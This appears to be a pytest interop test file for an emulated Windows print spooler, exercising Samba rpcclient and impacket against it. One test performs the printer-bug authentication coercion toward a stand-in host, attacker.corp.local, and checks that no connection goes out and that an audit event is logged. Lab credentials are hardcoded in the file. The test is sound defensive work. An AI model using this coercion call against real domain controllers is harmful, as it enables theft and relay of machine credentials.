"""spoolss (MS-RPRN) against the clients a lab uses (issue 15 item 5, "What it must show"):
Samba's ``rpcclient`` (enumprinters, getprinter, enumdrivers, getdata: its NDR parser reads
every custom-marshaled buffer, relative offsets included) and impacket's ``rprn`` over SMB --
the printer-bug coercion (printerbug.py / dementor: RpcOpenPrinter then
RpcRemoteFindFirstPrinterChangeNotificationEx) answered as Windows answers an unreachable
client, without a single outbound connection, and written to the audit log.  Credentials are
the corp fixture's: Administrator / Adm!n2003, alice / Wonderland1.  A missing client fails."""

from __future__ import annotations

import json
import socket
import struct
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from impacket.dcerpc.v5 import rprn, transport  # type: ignore[import-untyped]
from impacket.dcerpc.v5.dtypes import NULL  # type: ignore[import-untyped]
from impacket.dcerpc.v5.rpcrt import DCERPCException  # type: ignore[import-untyped]

from helpers import HOST, ServerThread, run_tool

pytestmark = pytest.mark.interop

ADMIN = ("Administrator", "Adm!n2003")
ALICE = ("alice", "Wonderland1")
PRINTER_CALLBACK_EVENT = 100003


def rpcclient(server: ServerThread, user: tuple[str, str] | None, *commands: str) -> str:
    creds = ["-U", f"CORP/{user[0]}%{user[1]}"] if user else ["-U", "", "-N"]
    result = run_tool(["rpcclient", "-p", str(server.port), *creds, HOST,
                       "-c", "; ".join(commands)])
    return result.stdout + result.stderr


@pytest.fixture(scope="module")
def dc() -> Iterator[ServerThread]:
    with ServerThread("win2016-dc") as server:
        yield server


def test_rpcclient_enumprinters_as_administrator(dc: ServerThread) -> None:
    out = rpcclient(dc, ADMIN, "enumprinters", "enumprinters 2")
    assert "name:[\\\\127.0.0.1\\HPLJ4250]" in out, out
    assert "comment:[HP LaserJet 4250 - 2nd floor]" in out
    assert "sharename:[HPLJ4250]" in out and "drivername:[Generic / Text Only]" in out
    assert "SID: S-1-1-0" in out  # level 2's security descriptor parsed too


def test_rpcclient_getprinter_enumdrivers_getdata(dc: ServerThread) -> None:
    out = rpcclient(dc, ADMIN, "getprinter HPLJ4250 2", "enumdrivers 3", "getdriverdir",
                    "getdata . Architecture", "getdata . OSVersion", "getdata . MajorVersion")
    assert "printername:[\\\\127.0.0.1\\HPLJ4250]" in out, out
    assert "Driver Name: [Generic / Text Only]" in out and "Architecture: [Windows x64]" in out
    assert "Directory Name:[C:\\Windows\\system32\\spool\\DRIVERS\\W32X86]" in out
    assert "Architecture: REG_SZ: Windows x64" in out
    assert "OsMajor: 10" in out and "OsBuild: 14393" in out
    assert "MajorVersion: REG_DWORD: 0x00000003" in out
    assert "result was" not in out.replace("result was WERR_OK", "")


def test_rpcclient_print_server_catalog(dc: ServerThread) -> None:
    """What a default Windows print server lists: its local ports, port monitors, the winprint
    print processor and its data types, the built-in forms, the directories."""
    out = rpcclient(dc, ADMIN, "enumports 2", "enummonitors 2", "enumprocs", "enumprocdatatypes",
                    "getdriverdir", "enumforms HPLJ4250", "getform HPLJ4250 A4")
    assert "Port Name:\t[LPT1:]" in out and "Monitor Name:\t[Local Port]" in out, out
    assert "monitor_name: Standard TCP/IP Port" in out and "dll_name: tcpmon.dll" in out
    assert "environment: Windows x64" in out
    assert "print_processor_name: winprint" in out
    assert "name_array: RAW" in out and "name_array: NT EMF 1.008" in out
    assert "Directory Name:[C:\\Windows\\system32\\spool\\DRIVERS\\W32X86]" in out
    assert "Letter Small\n\tflag: FORM_BUILTIN (1)" in out
    assert "A4\n\tflag: FORM_BUILTIN (1)\n\twidth: 210000, length: 297000" in out
    assert "WERR_" not in out


def test_rpcclient_user_sees_the_catalog_and_cannot_add_a_form(dc: ServerThread) -> None:
    out = rpcclient(dc, ALICE, "enumports", "enumforms HPLJ4250", "addform HPLJ4250 myform")
    assert "[COM1:]" in out and "Tabloid" in out, out
    assert "WERR_ACCESS_DENIED" in out



def test_rpcclient_administrator_adds_changes_and_deletes_a_form(dc: ServerThread) -> None:
    """MS-RPRN 3.1.4.5.1/2/5: the form an administrator adds is in the server's database for
    every later caller (alice reads it on her own connection); Windows' built-in forms cannot
    be deleted (ERROR_INVALID_PARAMETER) and a second add of a name is ERROR_FILE_EXISTS."""
    out = rpcclient(dc, ADMIN, "addform HPLJ4250 LabForm", "addform HPLJ4250 LabForm",
                    "setform HPLJ4250 LabForm", "deleteform HPLJ4250 Letter")
    assert out.count("WERR_FILE_EXISTS") == 1 and "WERR_INVALID_PARAMETER" in out, out
    seen = rpcclient(dc, ALICE, "getform HPLJ4250 LabForm", "enumforms HPLJ4250")
    assert "flag: FORM_PRINTER (2)" in seen and "right: 2000, top: 1000, bottom: 3000" in seen, seen
    assert seen.index("Tabloid") < seen.rindex("LabForm"), "added forms follow the built-in ones"
    assert "WERR_ACCESS_DENIED" in rpcclient(dc, ALICE, "deleteform HPLJ4250 LabForm")
    gone = rpcclient(dc, ADMIN, "deleteform HPLJ4250 LabForm", "getform HPLJ4250 LabForm",
                     "deleteform HPLJ4250 LabForm")
    assert gone.count("WERR_INVALID_FORM_NAME") == 2, gone


def test_rpcclient_administrator_adds_and_changes_a_printer() -> None:
    """MS-RPRN 3.1.4.2.3 / 3.1.4.2.5: the printer an administrator adds (rpcclient addprinter:
    RpcAddPrinterEx level 2) is listed for every caller and opened by name; its port and driver
    must exist (ERROR_UNKNOWN_PORT / ERROR_UNKNOWN_PRINTER_DRIVER, checked in that order);
    RpcSetPrinter's comment is what the next RpcGetPrinter reads; alice may add nothing.  Its
    own server: an added printer stays for the server's life."""
    with ServerThread("win2016-dc") as server:
        _add_and_change(server)


def _add_and_change(dc: ServerThread) -> None:
    out = rpcclient(dc, ADMIN, 'addprinter LabQueue LabShare "Generic / Text Only" LPT9:',
                    'addprinter LabQueue LabShare "No Such Driver" LPT2:',
                    'addprinter LabQueue LabShare "Generic / Text Only" LPT2:',
                    'addprinter LabQueue LabShare "Generic / Text Only" LPT2:',
                    'setprinter LabQueue "third floor"')
    assert "WERR_UNKNOWN_PORT" in out and "WERR_UNKNOWN_PRINTER_DRIVER" in out, out
    assert "WERR_PRINTER_ALREADY_EXISTS" in out and "Success in setting comment" in out, out
    seen = rpcclient(dc, ALICE, "enumprinters", "getprinter LabQueue 2",
                     'addprinter Rogue Rogue "Generic / Text Only" LPT3:')
    assert "name:[\\\\127.0.0.1\\LabQueue]" in seen and "comment:[third floor]" in seen, seen
    assert "portname:[LPT2:]" in seen and "sharename:[LabShare]" in seen, seen
    assert "WERR_ACCESS_DENIED" in seen and "Rogue" not in rpcclient(dc, ADMIN, "enumprinters")


def test_rpcclient_user_lists_and_is_refused_changes(dc: ServerThread) -> None:
    out = rpcclient(dc, ALICE, "enumprinters", "setprinter HPLJ4250 x")
    assert "name:[\\\\127.0.0.1\\HPLJ4250]" in out and "WERR_ACCESS_DENIED" in out, out


@pytest.mark.parametrize("profile,listed,refusal", [
    # 2000: spoolss in NullSessionPipes and the anonymous token holds Everyone.
    ("win2000", True, ""),
    # 2003: the pipe opens (NullSessionPipes) but Everyone excludes anonymous.
    ("win2003", False, "WERR_ACCESS_DENIED"),
    # 2016: not a null-session pipe: the CREATE is refused.
    ("win2016", False, "Could not initialise spoolss. Error was NT_STATUS_ACCESS_DENIED"),
])
def test_rpcclient_anonymous_per_profile(profile: str, listed: bool, refusal: str) -> None:
    with ServerThread(profile) as server:
        out = rpcclient(server, None, "enumprinters")
    assert ("name:[\\\\127.0.0.1\\HPLJ4250]" in out) is listed, out
    assert refusal in out


def _rprn(server: ServerThread, user: tuple[str, str]) -> Any:
    rpc = transport.DCERPCTransportFactory(rf"ncacn_np:{HOST}[\pipe\spoolss]")
    rpc.set_dport(server.port)
    rpc.set_credentials(user[0], user[1], "CORP")
    dce = rpc.get_dce_rpc()
    dce.connect()
    dce.bind(rprn.MSRPC_UUID_RPRN)
    return dce


def test_printerbug_answers_unavailable_never_connects_and_is_audited(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    log = tmp_path / "audit.jsonl"
    with ServerThread("win2016-dc", audit_log=str(log)) as server:
        dce = _rprn(server, ALICE)
        handle = rprn.hRpcOpenPrinter(dce, f"\\\\{HOST}\x00")["pHandle"]
        # From here on any outbound connection made in this process (the server runs in a
        # thread of it) is recorded -- and refused.
        attempts: list[Any] = []
        real_connect = socket.socket.connect

        def record(sock: socket.socket, address: Any) -> Any:
            attempts.append(address)
            raise OSError("outbound connection attempted")

        monkeypatch.setattr(socket.socket, "connect", record)
        monkeypatch.setattr(socket.socket, "connect_ex", record)
        with pytest.raises(DCERPCException) as info:
            rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
                dce, handle, rprn.PRINTER_CHANGE_ADD_JOB,
                pszLocalMachine="\\\\attacker.corp.local\x00")
        monkeypatch.setattr(socket.socket, "connect", real_connect)
        assert "RPC_S_SERVER_UNAVAILABLE" in str(info.value)  # printerbug.py: "Attack worked"
        assert attempts == []
        rprn.hRpcClosePrinter(dce, handle)
        dce.disconnect()
    server.config.audit.close()
    events = [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
    coercions = [e for e in events if e["EventID"] == PRINTER_CALLBACK_EVENT]
    assert len(coercions) == 1, events
    event = coercions[0]
    assert event["TargetHost"] == "\\\\attacker.corp.local"
    assert event["SubjectUserName"] == "alice" and event["Provider"] == "smbemu"
    assert event["OperationName"] == "RpcRemoteFindFirstPrinterChangeNotificationEx"
    assert event["Status"] == 1722 and event["ConnectedOut"] is False


def test_impacket_enum_open_close(dc: ServerThread) -> None:
    dce = _rprn(dc, ADMIN)
    resp = rprn.hRpcEnumPrinters(dce, rprn.PRINTER_ENUM_LOCAL, NULL, 2)
    assert resp["pcReturned"] == 1
    assert "HPLJ4250".encode("utf-16-le") in b"".join(resp["pPrinterEnum"])
    with pytest.raises(DCERPCException) as info:
        rprn.hRpcOpenPrinter(dce, "\\\\LEGACYSRV\\NoSuchPrinter\x00")
    assert "ERROR_INVALID_PRINTER_NAME" in str(info.value)
    client = rprn.SPLCLIENT_CONTAINER()
    client["Level"] = 1
    client["ClientInfo"]["tag"] = 1
    info1 = client["ClientInfo"]["pClientInfo1"]
    info1["dwSize"], info1["pMachineName"], info1["pUserName"] = 28, "KALI\x00", "alice\x00"
    info1["dwBuildNum"], info1["dwMajorVersion"], info1["dwMinorVersion"] = 9600, 6, 3
    info1["wProcessorArchitecture"] = 9
    handle = rprn.hRpcOpenPrinterEx(dce, "\\\\LEGACYSRV\\HPLJ4250\x00",
                                    accessRequired=0x00020008,  # PRINTER_READ
                                    pClientInfo=client)["pHandle"]
    rprn.hRpcClosePrinter(dce, handle)
    path = rprn.hRpcGetPrinterDriverDirectory(dce, NULL, "Windows x64\x00", 1)
    assert "spool\\DRIVERS\\x64".encode("utf-16-le") in b"".join(path["pDriverDirectory"])


def test_malformed_requests_fault_and_the_pipe_lives_on(dc: ServerThread) -> None:
    """Garbage stubs to the decoded opnums: an NDR fault, never a traceback or a dropped pipe."""
    dce = _rprn(dc, ADMIN)
    for opnum in (0, 1, 8, 26, 65, 69, 78):
        dce.call(opnum, b"\xff" * 13)
        with pytest.raises(DCERPCException) as info:
            dce.recv()
        # nca_s_fault_ndr (0x6F7 rpc_x_bad_stub_data): the stub could not be decoded -- not
        # nca_s_fault_remote_... / a generic failure, which a handler exception would give
        assert "rpc_x_bad_stub_data" in str(info.value), (opnum, str(info.value))
    assert rprn.hRpcEnumPrinters(dce, rprn.PRINTER_ENUM_LOCAL, NULL, 1)["pcReturned"] == 1


# ------------------------------------------------------------------ the print server's registry
CONTROL_PRINT = "SYSTEM\\CurrentControlSet\\Control\\Print"


def _registry(server: ServerThread, user: tuple[str, str]) -> Any:
    from impacket.dcerpc.v5 import rrp  # type: ignore[import-untyped]
    rpc = transport.SMBTransport(HOST, server.port, r"\winreg", username=user[0],
                                 password=user[1], domain="CORP")
    dce = rpc.get_dce_rpc()
    dce.connect()
    dce.bind(rrp.MSRPC_UUID_RRP)
    return dce


def _query(dce: Any, hive: bytes, path: str, name: str) -> tuple[int, bytes]:
    from impacket.dcerpc.v5 import rrp
    key = rrp.hBaseRegOpenKey(dce, hive, path + "\x00")["phkResult"]
    kind, data = rrp.hBaseRegQueryValue(dce, key, name + "\x00", 512)
    rrp.hBaseRegCloseKey(dce, key)
    return kind, data


def test_the_print_keys_follow_the_spooler() -> None:
    """The spooler's state in HKLM\\...\\Control\\Print (pipes/spoolss/registry.py), read with
    impacket's winreg client while Samba's rpcclient changes it: a form an administrator adds is
    a 32-byte REG_BINARY value of the Forms key (width, height, left, top, right, bottom, index,
    flags) on a hive handle opened before the add, and goes with RpcDeleteForm; a printer's
    comment set with RpcSetPrinter is its key's Description, through Control\\Print\\Printers
    and through SOFTWARE\\...\\Print\\Printers (one key, linked, from Vista on)."""
    from impacket.dcerpc.v5 import rrp
    with ServerThread("win2016-dc") as server:
        dce = _registry(server, ADMIN)
        hive = rrp.hOpenLocalMachine(dce)["phKey"]
        out = rpcclient(server, ADMIN, "addform HPLJ4250 LabForm", 'setprinter HPLJ4250 "room 12"')
        assert "Success in setting comment" in out, out
        kind, data = _query(dce, hive, f"{CONTROL_PRINT}\\Forms", "LabForm")
        # rpcclient's addform: FORM_USER, 100 x 100, area (0, 10, 20, 30) (see getform above)
        assert kind == rrp.REG_BINARY and struct.unpack("<6i2I", data)[:6] == (100, 100, 0, 10, 20, 30)
        assert struct.unpack("<8I", data)[7] == 0, "FORM_USER"
        for printers in (f"{CONTROL_PRINT}\\Printers",
                         "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Print\\Printers"):
            assert _query(dce, hive, f"{printers}\\HPLJ4250", "Description") == (
                rrp.REG_SZ, "room 12\x00")  # impacket decodes a REG_SZ
        rpcclient(server, ADMIN, "deleteform HPLJ4250 LabForm")
        with pytest.raises(DCERPCException) as info:
            _query(dce, hive, f"{CONTROL_PRINT}\\Forms", "LabForm")
        assert "ERROR_FILE_NOT_FOUND" in str(info.value)
        winprint = f"{CONTROL_PRINT}\\Environments\\Windows x64\\Print Processors\\winprint"
        assert _query(dce, hive, winprint, "Driver") == (rrp.REG_SZ, "winprint.dll\x00")


def test_net_rpc_registry_reads_the_printers_and_a_user_only_them(dc: ServerThread) -> None:
    """Samba's ``net rpc registry``: the Administrator enumerates Control\\Print (its Forms,
    Environments, Monitors... keys); alice reaches Control\\Print\\Printers, an AllowedPaths
    entry, but not the Forms key, which is outside them (ERROR_ACCESS_DENIED, as Windows)."""
    def net(user: tuple[str, str], *args: str) -> str:
        result = run_tool(["net", "rpc", "registry", *args, "-U", f"CORP/{user[0]}%{user[1]}",
                           "-I", HOST, "-p", str(dc.port)], timeout=60)
        return result.stdout + result.stderr

    out = net(ADMIN, "enumerate", f"HKLM\\{CONTROL_PRINT}")
    for name in ("Forms", "Environments", "Monitors", "Printers", "Providers",
                 "ServerSecurityDescriptor"):
        assert name in out, out
    out = net(ALICE, "enumerate", f"HKLM\\{CONTROL_PRINT}\\Printers")
    assert "Keyname   = HPLJ4250" in out, out
    assert "ACCESS_DENIED" in net(ALICE, "enumerate", f"HKLM\\{CONTROL_PRINT}\\Forms")


# ------------------------------------------------------------------ print jobs
def _doc_calls() -> dict[str, Any]:
    """impacket has no RpcStartDocPrinter / RpcWritePrinter: their requests, written with its
    NDR classes from MS-RPRN 3.1.4.9.1 / .3 (DOC_INFO_CONTAINER, 2.2.1.2.1)."""
    from impacket.dcerpc.v5.dtypes import DWORD, LPWSTR, ULONG  # type: ignore[import-untyped]
    from impacket.dcerpc.v5.ndr import (  # type: ignore[import-untyped]
        NDRCALL,
        NDRPOINTER,
        NDRSTRUCT,
        NDRUNION,
        NDRUniConformantArray,
    )

    class DOC_INFO_1(NDRSTRUCT):  # type: ignore[misc]
        structure = (("pDocName", LPWSTR), ("pOutputFile", LPWSTR), ("pDatatype", LPWSTR))

    class PDOC_INFO_1(NDRPOINTER):  # type: ignore[misc]
        referent = (("Data", DOC_INFO_1),)

    class DOC_INFO(NDRUNION):  # type: ignore[misc]
        commonHdr = (("tag", ULONG),)
        union = {1: ("pDocInfo1", PDOC_INFO_1)}

    class DOC_INFO_CONTAINER(NDRSTRUCT):  # type: ignore[misc]
        structure = (("Level", DWORD), ("DocInfo", DOC_INFO))

    class StartDoc(NDRCALL):  # type: ignore[misc]
        opnum = 17
        structure = (("hPrinter", rprn.PRINTER_HANDLE), ("pDocInfoContainer", DOC_INFO_CONTAINER))

    class Bytes(NDRUniConformantArray):  # type: ignore[misc]
        item = "c"

    class Write(NDRCALL):  # type: ignore[misc]
        opnum = 19
        structure = (("hPrinter", rprn.PRINTER_HANDLE), ("pBuf", Bytes), ("cbBuf", DWORD))

    class OnHandle(NDRCALL):  # type: ignore[misc]
        structure = (("hPrinter", rprn.PRINTER_HANDLE),)

    return {"StartDoc": StartDoc, "Write": Write, "OnHandle": OnHandle}


def _print_document(server: ServerThread, user: tuple[str, str], name: str, data: bytes) -> int:
    """RpcOpenPrinter, RpcStartDocPrinter, RpcWritePrinter, RpcEndDocPrinter; the job id."""
    calls = _doc_calls()
    dce = _rprn(server, user)
    handle = rprn.hRpcOpenPrinter(dce, "\\\\127.0.0.1\\HPLJ4250\x00",
                                  accessRequired=0x00020008)["pHandle"]  # PRINTER_READ
    start = calls["StartDoc"]()
    start["hPrinter"] = handle
    start["pDocInfoContainer"]["Level"] = 1
    start["pDocInfoContainer"]["DocInfo"]["tag"] = 1
    info = start["pDocInfoContainer"]["DocInfo"]["pDocInfo1"]
    info["pDocName"], info["pOutputFile"], info["pDatatype"] = name + "\x00", NULL, "RAW\x00"
    dce.call(17, start)
    job, status = struct.unpack("<II", dce.recv())
    assert status == 0
    write = calls["Write"]()
    write["hPrinter"], write["pBuf"], write["cbBuf"] = handle, list(data), len(data)
    dce.call(19, write)
    assert struct.unpack("<II", dce.recv()) == (len(data), 0)  # pcWritten, status
    end = calls["OnHandle"]()
    end["hPrinter"] = handle
    dce.call(23, end)
    assert dce.recv() == b"\x00\x00\x00\x00"
    rprn.hRpcClosePrinter(dce, handle)
    return int(job)


def test_a_printed_document_waits_in_the_queue_until_deleted() -> None:
    """MS-RPRN 3.1.4.9: alice's document (spooled with impacket) is a job every caller lists
    with Samba's rpcclient (enumjobs, getjob), never printed; the Administrator may pause it,
    alice may not touch the Administrator's job (ERROR_ACCESS_DENIED) but deletes her own."""
    with ServerThread("win2016-dc") as server:
        job = _print_document(server, ALICE, "Quarterly report", b"hello printer\n")
        mine = _print_document(server, ADMIN, "Admin memo", b"x" * 100)
        out = rpcclient(server, ADMIN, "enumjobs HPLJ4250", f"getjob HPLJ4250 {job} 2",
                        f"setjob HPLJ4250 {job} 1")
        assert f"jobid[{job}]: alice Quarterly report" in out and "14 bytes" in out, out
        assert f"jobid[{mine}]: Administrator Admin memo" in out and "WERR" not in out, out
        refused = rpcclient(server, ALICE, f"setjob HPLJ4250 {mine} 5", f"setjob HPLJ4250 {job} 5")
        assert refused.count("WERR_ACCESS_DENIED") == 1, refused
        left = rpcclient(server, ALICE, "enumjobs HPLJ4250", f"getjob HPLJ4250 {job} 1")
        assert f"jobid[{job}]" not in left and f"jobid[{mine}]" in left, left
        assert "WERR_INVALID_PARAMETER" in left, left  # the deleted job (Windows' answer)


def test_printer_data_set_over_spoolss_reads_back_and_shows_in_the_registry() -> None:
    """MS-RPRN 3.1.4.2.8 / 3.1.4.2.18: rpcclient setprinterdata (RpcSetPrinterData, key
    PrinterDriverData) as the Administrator; getdata / getdataex read it back on alice's
    connection, which may not set any (ERROR_ACCESS_DENIED); Samba's net rpc registry finds the
    values under the printer's key, as Windows keeps them."""
    with ServerThread("win2016-dc") as server:
        out = rpcclient(server, ADMIN, "setprinterdata HPLJ4250 string Tray Upper",
                        "setprinterdata HPLJ4250 dword Copies 3")
        assert out.count("SetPrinterData succeeded") == 2, out
        seen = rpcclient(server, ALICE, "getdata HPLJ4250 Tray",
                         "getdataex HPLJ4250 PrinterDriverData Copies",
                         "setprinterdata HPLJ4250 string X y")
        assert "Tray: REG_SZ: Upper" in seen and "Copies: REG_DWORD: 0x00000003" in seen, seen
        assert "WERR_ACCESS_DENIED" in seen, seen
        registry = run_tool(["net", "rpc", "registry", "enumerate",
                             f"HKLM\\{CONTROL_PRINT}\\Printers\\HPLJ4250\\PrinterDriverData",
                             "-U", f"CORP/{ADMIN[0]}%{ADMIN[1]}", "-I", HOST, "-p", str(server.port)],
                            timeout=60)
        text = registry.stdout + registry.stderr
        assert "Valuename  = Tray" in text and '"Upper"' in text and "Valuename  = Copies" in text, text


def _impacket_status(dce: Any, opnum: int, fields: list[tuple[str, Any, Any]]) -> int:
    """One MS-RPRN call impacket's rprn module does not define (its own NDR types, the
    request built field by field); the answer's last DWORD, the status."""
    from impacket.dcerpc.v5.ndr import NDRCALL  # type: ignore[import-untyped]

    class Request(NDRCALL):
        structure = tuple((name, kind) for name, kind, _ in fields)

    request = Request()
    for name, _kind, value in fields:
        request[name] = value
    dce.call(opnum, request)
    return int(struct.unpack("<I", dce.recv()[-4:])[0])


def test_printer_data_enumerated_keys_deleted_and_the_driver_read() -> None:
    """MS-RPRN 3.1.4.2.16 / .20 / .21 / .23, 3.1.4.4.6: the values rpcclient setprinterdata
    and RpcSetPrinterDataEx (impacket) stored come back through rpcclient enumdata, enumdataex
    and enumkey on alice's connection; alice may not delete a key (ERROR_ACCESS_DENIED), the
    Administrator may; rpcclient getdriver reads the printer's driver (RpcGetPrinterDriver2)."""
    from impacket.dcerpc.v5.dtypes import DWORD, WSTR  # type: ignore[import-untyped]

    with ServerThread("win2016-dc") as server:
        out = rpcclient(server, ADMIN, "setprinterdata HPLJ4250 string Tray Upper",
                        "setprinterdata HPLJ4250 dword Copies 3")
        assert out.count("SetPrinterData succeeded") == 2, out
        admin = _rprn(server, ADMIN)
        handle = rprn.hRpcOpenPrinter(admin, "\\\\LEGACYSRV\\HPLJ4250\x00",
                                      accessRequired=0x000F000C)["pHandle"]
        data = ("Floor 2\x00").encode("utf-16-le")
        assert _impacket_status(admin, 77, [
            ("hPrinter", rprn.PRINTER_HANDLE, handle), ("pKeyName", WSTR, "DsSpooler\x00"),
            ("pValueName", WSTR, "location\x00"), ("Type", DWORD, 1),
            ("pData", rprn.BYTE_ARRAY, list(data)), ("cbData", DWORD, len(data))]) == 0
        seen = rpcclient(server, ALICE, "enumdata HPLJ4250",
                         "enumdataex HPLJ4250 PrinterDriverData",
                         "enumdataex HPLJ4250 DsSpooler", "enumkey HPLJ4250",
                         "enumdataex HPLJ4250 NoSuchKey", "getdriver HPLJ4250 8")
        # twice each: enumdata, then enumdataex (whose second entry's offsets count from
        # its own element, MS-RPRN 2.2.2.11)
        assert seen.count("Tray: REG_SZ: Upper") == 2, seen
        assert seen.count("Copies: REG_DWORD: 0x00000003") == 2, seen
        assert "location: REG_SZ: Floor 2" in seen, seen
        assert "\nPrinterDriverData\nDsSpooler\n" in seen, seen
        assert seen.count("WERR_FILE_NOT_FOUND") == 1, seen
        assert "Printer Driver Info 8:" in seen and "Driver Name: [Generic / Text Only]" in seen
        assert "Inf Path: [C:\\Windows\\INF\\ntprint.inf]" in seen, seen
        alice = _rprn(server, ALICE)
        mine = rprn.hRpcOpenPrinter(alice, "\\\\LEGACYSRV\\HPLJ4250\x00",
                                    accessRequired=0x00020008)["pHandle"]
        key = ("pKeyName", WSTR, "DsSpooler\x00")
        assert _impacket_status(alice, 82, [("hPrinter", rprn.PRINTER_HANDLE, mine), key]) \
            == 5  # ERROR_ACCESS_DENIED
        assert _impacket_status(admin, 82, [("hPrinter", rprn.PRINTER_HANDLE, handle), key]) == 0
        after = rpcclient(server, ALICE, "enumkey HPLJ4250", "enumdataex HPLJ4250 DsSpooler")
        assert "PrinterDriverData" in after, after
        assert "\nDsSpooler\n" not in after and "WERR_FILE_NOT_FOUND" in after, after
